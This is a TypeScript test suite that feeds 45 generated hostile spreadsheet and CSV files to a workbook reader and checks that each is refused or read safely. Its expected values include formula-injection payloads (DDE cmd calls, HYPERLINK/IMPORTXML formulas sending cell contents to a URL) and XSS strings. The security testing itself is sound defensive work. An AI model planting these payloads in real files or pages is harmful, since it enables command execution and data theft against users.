import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readBook } from '../../electron/workbook/reader/read-book';
import { UNREADABLE, type RawBook } from '../../electron/workbook/raw';
import { AppError, errorWords, type ErrorCode } from '../../src/core/domain/errors/index';
import { hostileFiles } from '../fixtures/hostile/gen';
import { sharedData } from '../fixtures/shared-data';

/** Resident memory may grow by this much over all files together. */
const MAX_GROWTH_BYTES = 512 << 20;

type Outcome =
  { readonly book: RawBook } | { readonly refusal: ErrorCode; readonly details: Readonly<Record<string, unknown>> };

const folder = mkdtempSync(join(tmpdir(), 'yardstick-hostile-'));
const outcomes = new Map<string, Outcome>();
let memoryBefore = 0;

async function outcomeOf(path: string): Promise<Outcome> {
  try {
    return { book: await readBook(path) };
  } catch (error) {
    if (error instanceof AppError) return { refusal: error.code, details: error.details };
    throw error;
  }
}

function book(name: string): RawBook {
  const outcome = outcomes.get(name);
  if (outcome === undefined || !('book' in outcome)) throw new Error(`${name} was refused: ${JSON.stringify(outcome)}`);
  return outcome.book;
}

const rows = (name: string, sheet = 0): unknown => book(name).sheets[sheet]?.rows;
const warned = (name: string): string[] =>
  book(name).warnings.map(({ code, cell }) => (cell === undefined ? code : `${code} ${cell}`));

beforeAll(async () => {
  memoryBefore = process.memoryUsage().rss;
  for (const [name, bytes] of Object.entries(hostileFiles)) {
    const path = join(folder, name);
    writeFileSync(path, bytes());
    outcomes.set(name, await outcomeOf(path));
  }
}, 120_000);
afterAll(() => rmSync(folder, { recursive: true }));

const ANN = [
  ['Employee ID', 'Name', 'Salary'],
  [1, 'Ann', 50_000],
];

describe('refused, with the reason', () => {
  test.each<[name: string, code: ErrorCode, details?: object]>([
    ['01-zipbomb-whitespace-2GB.xlsx', 'ZIP_TOO_LARGE'],
    ['02-zipbomb-rows-1GB.xlsx', 'ZIP_TOO_LARGE'],
    ['03-billion-laughs.xlsx', 'XML_DOCTYPE', { part: 'xl/sharedStrings.xml' }],
    ['04-xxe-external-entity.xlsx', 'XML_DOCTYPE', { part: 'xl/sharedStrings.xml' }],
    ['14-row-index-4billion.xlsx', 'CELL_OUT_OF_RANGE', { sheet: 'Sheet1', cell: 'A4294967295' }],
    ['15-sharedstring-index-oob.xlsx', 'STRING_LOST', { sheet: 'Sheet1', cell: 'A1' }],
    ['24-long-cell-50MB.xlsx', 'ZIP_RATIO', { part: 'xl/worksheets/sheet1.xml' }],
    ['25-10k-sheets.xlsx', 'TOO_MANY_SHEETS', { count: 10_000 }],
    ['26-missing-workbook-rels.xlsx', 'WORKBOOK_DAMAGED', { part: 'xl/workbook.xml' }],
    ['28-truncated.xlsx', 'WORKBOOK_DAMAGED'],
    ['29-empty.xlsx', 'FILE_EMPTY'],
    ['30-random.xlsx', 'NOT_A_WORKBOOK'],
    ['31-png-renamed.xlsx', 'WRONG_KIND', { kind: 'PNG' }],
    ['33-zip-size-lie.xlsx', 'ZIP_TOO_LARGE'],
    ['34-crc-mismatch.xlsx', 'WORKBOOK_DAMAGED'],
    ['35-duplicate-entry.xlsx', 'ZIP_DUPLICATE', { part: 'xl/worksheets/sheet1.xml' }],
    ['38-unclosed-quote.csv', 'CSV_UNCLOSED_QUOTE', { line: 2 }],
    ['39-1M-columns.csv', 'TOO_MANY_COLUMNS', { line: 1, count: 1_000_000 }],
    ['40-nul-bytes.csv', 'TEXT_NUL', { line: 2 }],
    ['42-redos-unclosed-tags.xlsx', 'ZIP_RATIO'],
    ['43-nested-xml-200k-deep.xlsx', 'WORKBOOK_DAMAGED'],
  ])('%s: %s', (name, code, details = {}) => {
    const outcome = outcomes.get(name);
    expect(outcome).toMatchObject({ refusal: code, details: { file: name, ...details } });
    for (const lang of ['zh', 'en'] as const) {
      const words = errorWords(code, outcome !== undefined && 'refusal' in outcome ? outcome.details : {}, lang);
      expect(words.message).toContain(name);
      expect(words.message + (words.remedy ?? '')).not.toMatch(/\{\w+\}/);
    }
  });
});

describe('read as what it is', () => {
  test.each([
    '00-control-ok',
    '10-proto-sheetname-comments',
    '11-dimension-lie-huge',
    '12-dimension-lie-small',
    '13-cell-at-XFD1048576',
    '18-merge-whole-sheet',
    '19-merge-100k',
    '20-path-traversal-entry',
    '21-path-traversal-rel',
    '44-ddeLink',
  ])('%s gives the one row of Ann', (name) => expect(rows(`${name}.xlsx`)).toEqual(ANN));

  test('external sources are flagged and not asked', () => {
    expect(rows('05-external-link.xlsx')).toEqual([[5, 1]]);
    expect(warned('05-external-link.xlsx')).toEqual(['EXTERNAL_LINKS', 'FORMULA_EXTERNAL A1', 'FORMULA_EXTERNAL B1']);
    expect(warned('44-ddeLink.xlsx')).toEqual(['EXTERNAL_LINKS']);
  });

  test('text that looks like a formula stays text', () => {
    const cells = book('06-formula-injection.xlsx')
      .sheets[0]?.rows.slice(1)
      .map(([cell]) => cell);
    expect(cells).toEqual([
      "=cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
      '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
      '-5',
      '+49 30 1234',
    ]);
    expect(book('06-formula-injection.xlsx').sheets[0]?.formulas.size).toBe(0);
    const csv = book('07-formula-injection.csv').sheets[0]?.rows.map(([cell]) => cell);
    expect(csv).toEqual(['Name', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\n=1+1', '-5', '＝1+1']);
  });

  test('headers named like object members are plain texts', () => {
    expect(rows('08-proto-headers.xlsx')).toEqual([
      ['__proto__', 'constructor', 'toString', 'hasOwnProperty'],
      ['{"polluted":1}', 'x', 'y', 'z'],
    ]);
    expect(rows('09-proto-headers.csv')).toEqual([
      ['__proto__', 'constructor', 'prototype', 'Name'],
      ['polluted', 'x', 'y', 'Ann'],
    ]);
    expect(book('10-proto-sheetname-comments.xlsx').sheets[0]?.name).toBe('__proto__');
  });

  test('a cell far away, a missing sheet and unsafe parts are named', () => {
    expect(warned('13-cell-at-XFD1048576.xlsx')).toEqual(['CELL_FAR']);
    expect(warned('20-path-traversal-entry.xlsx')).toEqual(['ZIP_STRANGE_PART', 'ZIP_STRANGE_PART']);
    expect(warned('21-path-traversal-rel.xlsx')).toEqual(['SHEET_UNREADABLE']);
  });

  test('stored results of odd formulas are read, with a warning', () => {
    expect(rows('16-shared-formula-circular.xlsx')).toEqual([[1, 2, 3]]);
    expect(warned('16-shared-formula-circular.xlsx')).toEqual(['FORMULA_ORPHAN C1']);
    expect(rows('17-sst-count-lie.xlsx')).toEqual([['a']]);
    expect(rows('41-redos-format.xlsx')).toEqual([[1]]);
  });

  test('bad numbers are errors at their cells, never other numbers', () => {
    const bad = (raw: string) => [{ error: UNREADABLE, raw }];
    expect(rows('22-bad-numbers.xlsx')).toEqual([
      ['Salary'],
      bad('NaN'),
      bad('Infinity'),
      bad('1e999'),
      bad('-1e-999'),
      bad('0x10'),
      bad('1,234'),
      [],
      bad('99999999999999999999'),
      bad('1.7976931348623157E308'),
      [],
      [{ error: '#REF!' }],
      bad('2023-13-45'),
    ]);
    expect(warned('22-bad-numbers.xlsx')).toEqual([
      ...['A2', 'A3', 'A4', 'A5', 'A6', 'A7'].map((cell) => `CELL_UNREADABLE ${cell}`),
      'NUMBER_IMPLAUSIBLE A9',
      'NUMBER_IMPLAUSIBLE A10',
      'CELL_UNREADABLE A13',
    ]);
  });

  test('markup in cells and a web page named .xls are inert text', () => {
    expect(rows('23-html-xss-cells.xlsx')).toEqual([
      ['<img src=x onerror=alert(1)>', 'javascript:alert(1)', '<script>fetch("http://127.0.0.1:9")</script>'],
    ]);
    expect(rows('32-html-renamed.xls')).toEqual([['Name'], ['=1+1']]);
    expect(warned('32-html-renamed.xls')).toEqual(['WRONG_EXTENSION']);
  });

  test('control and direction characters go, composed forms stay, and it is said', () => {
    expect(rows('27-control-and-bidi-chars.xlsx')).toEqual([['Name'], ['Anngnp.exe'], ['é vs é']]);
    expect(warned('27-control-and-bidi-chars.xlsx')).toEqual(['TEXT_BIDI A2', 'TEXT_CLEANED A2']);
  });

  test('encodings are found; a fallback is marked for confirmation', () => {
    expect(rows('36-utf16le-bom.csv')).toEqual([
      ['Name', 'Salary'],
      ['Åsa', '5'],
    ]);
    expect(book('36-utf16le-bom.csv')).toMatchObject({ encoding: 'utf-16le', encodingDoubtful: false });
    expect(rows('37-latin1.csv')).toEqual([
      ['Name', 'Gehalt'],
      ['Müller', '1.234,56'],
    ]);
    expect(book('37-latin1.csv')).toMatchObject({ encoding: 'windows-1252', encodingDoubtful: true, delimiter: ';' });
  });
});

test('all 45 are covered, none timed out, nothing leaked out of the reader', () => {
  expect(outcomes.size).toBe(45);
  for (const outcome of outcomes.values()) {
    if ('refusal' in outcome) expect(['FILE_TOO_SLOW', 'FILE_TOO_LARGE', 'INTERNAL']).not.toContain(outcome.refusal);
  }
  expect(process.memoryUsage().rss - memoryBefore).toBeLessThan(MAX_GROWTH_BYTES);
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  for (const place of [folder, process.cwd(), tmpdir(), join(folder, '..', '..'), '/']) {
    expect(existsSync(join(place, 'evil_written.txt'))).toBe(false);
    expect(existsSync(join(place, 'evil_abs.txt'))).toBe(false);
  }
});

const shared = sharedData('hostile');
test.skipIf(shared === undefined)(
  'the published set behaves as the generated one (skipped without ../shared/data)',
  async () => {
    const names = readdirSync(shared ?? '').filter((name) => /^\d\d-/.test(name));
    expect(names.sort()).toEqual(Object.keys(hostileFiles).sort());
    for (const name of names) {
      const path = join(shared ?? '', name);
      if (name.endsWith('.csv') || name.endsWith('.xls')) {
        expect(hostileFiles[name]?.().equals(readFileSync(path)), name).toBe(true);
      }
      expect(await outcomeOf(path), name).toEqual(outcomes.get(name));
    }
  },
);
